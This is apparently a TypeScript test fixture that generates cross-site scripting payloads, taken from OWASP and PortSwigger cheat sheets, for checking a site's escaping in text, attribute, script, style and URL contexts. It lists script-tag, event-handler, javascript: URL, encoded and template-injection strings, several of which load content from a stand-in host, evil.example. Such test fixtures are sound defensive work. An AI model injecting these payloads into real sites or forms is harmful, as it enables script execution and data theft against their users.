import { words } from '../support/words';

// Common filter evasions (cheat sheets of OWASP and PortSwigger) for every context of the pages. The contexts are text, attributes,
// title, style, script and URLs. `watchContext` detects each of them if it runs.
const scripts = [
  '<script>__pwned=1</script>',
  '<ScRiPt >__pwned=1</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<<script>__pwned=1;//<</script>',
  ...words('</title> </style> </script> </noscript> </textarea> ]]> -->').map(
    (end) => `${end}<script>__pwned=1</script>`,
  ),
  '<img src=x onerror=__pwned=1>',
  '<img src=//evil.example/pixel>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=__pwned=1>',
  '<svg><script>__pwned=1</script></svg>',
  '<svg><animate onbegin=__pwned=1 attributeName=x dur=1s>',
  '<math><mtext><mglyph><style><img src=x onerror=__pwned=1>',
  '<iframe srcdoc="<script>parent.__pwned=1</script>">',
  '<iframe src=javascript:parent.__pwned=1>',
  '<object data=//evil.example/x>',
  '<embed src=//evil.example/x>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<body onload=__pwned=1>',
  '<details open ontoggle=__pwned=1>',
  '<video><source onerror=__pwned=1></video>',
  '<a href=javascript:alert(1) autofocus onfocus=__pwned=1>x</a>',
  '<form action=//evil.example/><input autofocus onfocus=__pwned=1>',
  'javascript:alert(1)',
  '&lt;script&gt;__pwned=1&lt;/script&gt;',
  '&#60;script&#62;__pwned=1&#60;/script&#62;',
  '&#x3c;img src=x onerror=__pwned=1&#x3e;',
  '&amp;lt;b&amp;gt; &amp; &copy &notit; &#0; &#xD800;',
  '%3Cscript%3E__pwned=1%3C/script%3E',
  '+ADw-script+AD4-__pwned=1+ADw-/script+AD4-',
  '\\u003cscript\\u003e__pwned=1',
  '${__pwned=1}{{__pwned=1}}<%= 1 %>#{1}',
  '`;__pwned=1;`',
  "';__pwned=1;//",
  '\u202e<script>__pwned=1</script>\u2066evil\u2069',
  '\u2028__pwned=1\u2029//',
  '\u200b<\u200bscript>\ufeff',
  '＜script＞__pwned=1＜/script＞',
  'x onerror=__pwned=1 x',
  '; script-src * ; img-src *',
  '\r\n\r\n<script>__pwned=1</script>',
  'a\tb\u0001\u001b[31m\u0085c\u{1f600}\u0300\u0301',
];

/** Unchanged, escaping from either kind of attribute, and behind an unclosed tag. */
const variants = [
  (text: string) => text,
  (text: string) => `">${text}`,
  (text: string) => `'>${text}<x a='`,
  (text: string) => `<!--<b a="${text}`,
];

export const hostileTexts = scripts.flatMap((script) => variants.map((variant) => variant(script)));
